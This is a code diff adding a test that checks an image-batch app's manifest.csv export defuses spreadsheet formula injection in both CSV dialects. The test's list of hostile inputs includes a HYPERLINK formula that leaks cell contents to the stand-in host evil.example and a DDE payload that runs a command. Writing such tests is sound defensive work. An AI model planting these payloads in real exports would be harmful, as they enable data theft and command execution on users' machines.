@@ -3,6 +3,7 @@ and manifest.csv says which image is missing."""
 
 import csv
 import io
+import re
 import zipfile
 
 import pytest
@@ -50,3 +51,84 @@ def test_unreadable_or_empty_images_are_skipped_and_named_and_the_rest_are_packe
     assert [(r["file_name"], r["status"]) for r in rows] == [
         ("a.png", "done"), ("b.png", "missing"), ("c.png", "done"), ("d.png", "missing"), ("e.png", "done")]
     assert rows[0]["final_prompt"] == "pa, style" and rows[0]["size"] == "1024x1024"
+
+
+# Text a subscriber may type (prompts, names, styles) or an upstream error may carry, built to run as a formula
+# in a spreadsheet: at the start of a cell, after a , or ; (where a reader of the other dialect starts a cell),
+# behind spaces, tabs or quotes, in full-width forms, across line breaks.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+    "cat;=2+5;",
+    "a,-1+1",
+    "@SUM(1)",
+    "+1",
+    "\t=1+1",
+    "tab\there;\t@x",
+    'say "hi";"=1"',
+    "\uff1d1+1",
+    "x;\uff0b1, \uff20A1 \uff0d2",
+    "  -3",
+    "a, =1; +2",
+    'he said "=1", "-2"',
+    "line\r\n=cmd|' /C calc'!A0",
+    "=1;=2,=3",
+    "\u3000=1",
+    "it's 'fine'; isn't it",
+    "",
+]
+FORMULA_STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n")
+
+MANIFEST = """async (hostile) => {
+  const {zipBatch} = await import('/js/zip.js');
+  const png = new Blob([new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 1])], {type: 'image/png'});
+  // Names stay file-system safe here (no slash): they are entries of the ZIP too.
+  const items = hostile.map((text, i) => ({position: i + 1, name: `${i + 1} ${text.replace(/[\\/\\\\]/g, '')}.png`,
+    prompt: text, finalPrompt: text + ';' + text, status: i % 3 ? 'done' : 'failed', error: i % 3 ? null : text}));
+  const batch = {id: 9, createdAt: 1764460800, date: '2026-11-30', model: 'gpt-image-2', width: 1024,
+    height: 1024, format: 'png', items};
+  const images = items.filter((item, i) => i % 3).map(item => ({position: item.position, name: item.name, blob: png}));
+  const zip = await zipBatch(batch, images);
+  return {names: items.map(item => item.name), bytes: Array.from(new Uint8Array(await zip.blob.arrayBuffer()))};
+}"""
+
+
+def unmarked(cell: str, original: str) -> bool:
+    """Whether `cell` is `original` (tab, CR and LF made spaces) with nothing added but ' before formula starts."""
+    original = original.replace("\t", " ").replace("\r", " ").replace("\n", " ")
+    i = 0
+    for j, char in enumerate(cell):
+        if i < len(original) and char == original[i]:
+            i += 1
+        elif char == "'" and re.sub(r'^[\s"]*', "", cell[j + 1:]).startswith(FORMULA_STARTS):
+            continue  # a marker the manifest added
+        else:
+            return False
+    return i == len(original)
+
+
+def test_the_manifest_defuses_formulas_in_both_csv_dialects_and_keeps_the_text(page, live_server):
+    base, _app = live_server
+    page.goto(base + "/")
+    result = page.evaluate(MANIFEST, HOSTILE)
+    with zipfile.ZipFile(io.BytesIO(bytes(result["bytes"]))) as archive:
+        manifest = archive.read("manifest.csv").decode("utf-8-sig")
+
+    for delimiter in (",", ";"):
+        rows = list(csv.reader(io.StringIO(manifest, newline=""), delimiter=delimiter))
+        cells = [cell for row in rows for cell in row]
+        assert cells, delimiter
+        for cell in cells:
+            assert not cell.lstrip().startswith(FORMULA_STARTS), (delimiter, cell)
+    # Every field is quoted (quotes doubled), every row ends in CRLF: no bare text for a reader to guess at.
+    assert re.fullmatch(r'(?:"(?:[^"]|"")*"(?:,|\r\n))+', manifest), manifest
+
+    header, *rows = list(csv.reader(io.StringIO(manifest, newline="")))
+    assert header == ["file_name", "prompt", "final_prompt", "model", "size", "format", "status"]
+    assert len(rows) == len(HOSTILE)
+    for i, (row, text) in enumerate(zip(rows, HOSTILE, strict=True)):
+        name, prompt, final_prompt, model, size, fmt, status = row
+        assert unmarked(name, result["names"][i]), (name, text)
+        assert unmarked(prompt, text), (prompt, text)
+        assert unmarked(final_prompt, text + ";" + text), (final_prompt, text)
+        assert (model, size, fmt) == ("gpt-image-2", "1024x1024", "png")
+        assert unmarked(status, "done" if i % 3 else "failed: " + text), (status, text)
